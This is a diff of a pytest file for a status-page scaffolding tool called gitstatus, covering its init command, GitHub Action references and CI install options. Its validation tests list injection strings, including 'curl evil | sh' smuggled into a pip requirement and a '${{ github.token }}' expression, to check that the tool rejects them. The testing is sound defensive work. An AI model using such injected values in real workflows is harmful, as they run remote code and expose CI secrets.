@@ -9,7 +9,7 @@ import pytest
 import yaml
 
 from gitstatus import write
-from gitstatus.commands import init as scaffold
+from gitstatus.commands import hosting
 from gitstatus.commands.build import check
 from gitstatus.project import load
 from gitstatus.read.document import parse_incident
@@ -81,14 +81,16 @@ def test_init_in_the_current_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPa
 def test_init_refuses_to_overwrite_and_changes_nothing(tmp_path: Path) -> None:
     root = tmp_path / "status"
     (root / "incidents").mkdir(parents=True)
-    (root / "README.md").write_text("Our own readme\n", encoding="utf-8")
+    (root / "components.yaml").write_text("Our own settings\n", encoding="utf-8")
+    (root / ".gitignore").write_text("*.pyc\n", encoding="utf-8")
     (root / "incidents/keep.md").write_text("mine\n", encoding="utf-8")
     before = site_files(root)
     code, out, err = run("init", str(root), "--now", NOW)
     assert code == 1 and out == ""
-    assert err == (f"gitstatus: {root} already has README.md; nothing was written (pass --force to overwrite them)\n")
-    assert site_files(root) == before
-    assert sorted(p.name for p in root.rglob("*")) == ["README.md", "incidents", "keep.md"]  # no folder, no temp
+    assert err == (f"gitstatus: {root} already has components.yaml, with other contents than init would write; "
+                   "nothing was written (pass --force to overwrite them)\n")
+    assert site_files(root) == before  # not even the .gitignore it would have added to
+    assert sorted(p.name for p in root.rglob("*")) == [".gitignore", "components.yaml", "incidents", "keep.md"]
 
 
 def test_init_force_overwrites_and_keeps_other_files(tmp_path: Path) -> None:
@@ -142,42 +144,75 @@ def test_example_incident_is_resolved_and_canonical(tmp_path: Path) -> None:
         "2026-06-11 12:00 UTC — Investigating", "2026-06-11 12:18 UTC — Identified", "2026-06-11 12:41 UTC — Resolved"]
 
 
-def test_workflows_install_gitstatus_from_one_documented_variable(tmp_path: Path) -> None:
+def gitstatus_uses(root: Path) -> list[tuple[str, dict[str, str]]]:
+    """(uses, with) of every step of the status repo's workflows that runs gitstatus."""
+    found = []
+    for path in sorted((root / ".github/workflows").glob("*.yml")):
+        workflow = yaml.safe_load(path.read_text(encoding="utf-8"))
+        found += [(s["uses"], s["with"]) for job in workflow["jobs"].values() for s in job["steps"]
+                  if s.get("uses", "").startswith("gitstatus/") or s.get("uses", "").startswith("acme/")]
+    return found
+
+
+def test_workflows_use_the_gitstatus_action_at_its_major_version(tmp_path: Path) -> None:
     root = tmp_path / "status"
     run("init", str(root), "--now", NOW)
-    requirement = scaffold.install_requirement()
-    assert requirement.startswith("gitstatus @ git+https://") and requirement.endswith(f"@v{scaffold.__version__}")
-    for name in ("publish.yml", "status-check.yml"):
-        text = (root / ".github/workflows" / name).read_text(encoding="utf-8")
-        workflow = yaml.safe_load(text)
-        assert workflow["env"] == {"GITSTATUS": requirement}
-        assert "gitstatus is not on PyPI yet" in text  # the variable is explained where it is set
-        installs = [s["run"] for job in workflow["jobs"].values() for s in job["steps"]
-                    if "pip install" in s.get("run", "")]
-        assert installs == ['python -m pip install "$GITSTATUS"']
+    found = gitstatus_uses(root)
+    assert len(found) == 4 and {uses for uses, _ in found} == {"gitstatus/gitstatus@v1"}
+    assert not any("install" in inputs for _, inputs in found)
     readme = (root / "README.md").read_text(encoding="utf-8")
-    assert f'python3 -m pip install "{requirement}"' in readme
+    assert 'python3 -m pip install "gitstatus-page @ git+https://github.com/gitstatus/gitstatus@v1"' in readme
     assert "incidents/2026-06-11-example-slow-api-responses.md" in readme
 
 
-def test_install_option_sets_what_the_workflows_install(tmp_path: Path) -> None:
+def test_the_default_ref_is_the_major_version_tag() -> None:
+    assert hosting.default_ref("1.4.2") == "v1"
+    assert hosting.default_ref("2.0.0rc1") == "v2"
+    assert hosting.default_ref("1.0.1.dev3+g1234567") == "v1"
+    assert hosting.default_ref("0.0.1.dev73+g953784b") == "v1"  # a clone without tags: there is no v0
+    assert hosting.default_ref("0.0.0+unknown") == "v1"
+
+
+def test_action_option_names_the_action_and_what_other_hosts_install(tmp_path: Path) -> None:
+    code, _, err = run("init", str(tmp_path / "gh"), "--now", NOW, "--action", "acme/gitstatus-fork@v2.1.0")
+    assert code == 0, err
+    assert {uses for uses, _ in gitstatus_uses(tmp_path / "gh")} == {"acme/gitstatus-fork@v2.1.0"}
+    code, _, err = run("init", str(tmp_path / "gl"), "--now", NOW, "--host", "gitlab", "--action", "acme/fork@main")
+    assert code == 0, err
+    ci = yaml.safe_load((tmp_path / "gl/.gitlab-ci.yml").read_text(encoding="utf-8"))
+    assert ci["variables"]["GITSTATUS"] == "gitstatus-page @ git+https://github.com/acme/fork@main"
+
+
+def test_install_option_sets_what_ci_installs(tmp_path: Path) -> None:
     root = tmp_path / "status"
-    spec = "gitstatus @ git+https://git.example.org/ops/gitstatus@v0.1.0"
+    spec = "gitstatus-page @ git+https://git.example.org/ops/gitstatus@v1.0.0"
     code, _, _ = run("init", str(root), "--now", NOW, "--install", spec)
     assert code == 0
-    for name in ("publish.yml", "status-check.yml"):
-        workflow = yaml.safe_load((root / ".github/workflows" / name).read_text(encoding="utf-8"))
-        assert workflow["env"] == {"GITSTATUS": spec}
+    found = gitstatus_uses(root)
+    assert found and all(inputs["install"] == spec for _, inputs in found)
     assert f'python3 -m pip install "{spec}"' in (root / "README.md").read_text(encoding="utf-8")
+    code, _, _ = run("init", str(tmp_path / "nl"), "--now", NOW, "--host", "netlify", "--install", spec)
+    assert code == 0
+    assert f'GITSTATUS = "{spec}"' in (tmp_path / "nl/netlify.toml").read_text(encoding="utf-8")
 
 
-@pytest.mark.parametrize("spec", ['gitstatus"; curl evil | sh; "', "two\nlines", "  "])
+@pytest.mark.parametrize("spec", ['gitstatus"; curl evil | sh; "', "two\nlines", "  ", "a\\b", "x${{ github.token }}"])
 def test_install_option_refuses_what_would_break_the_workflow(tmp_path: Path, spec: str) -> None:
     root = tmp_path / "status"
     code, _, err = run("init", str(root), "--now", NOW, "--install", spec)
     assert code == 2
     assert "--install must be one pip requirement" in err
     assert not root.exists() or not any(root.iterdir())
+
+
+@pytest.mark.parametrize("action", ["gitstatus", "acme/gitstatus@v1; curl evil", "acme/x@", "-acme/x@v1",
+                                    "acme/x@../../y", "acme/x@${{ github.token }}", "a/b/c@v1", "acme/x@v1\n"])
+def test_action_option_refuses_what_is_not_a_repository_and_ref(tmp_path: Path, action: str) -> None:
+    root = tmp_path / "status"
+    code, _, err = run("init", str(root), "--now", NOW, "--action", action)
+    assert code == 2
+    assert "--action must be OWNER/REPO@REF" in err
+    assert not root.exists()
 
 
 def test_gitignore_ignores_the_build_output(tmp_path: Path) -> None:
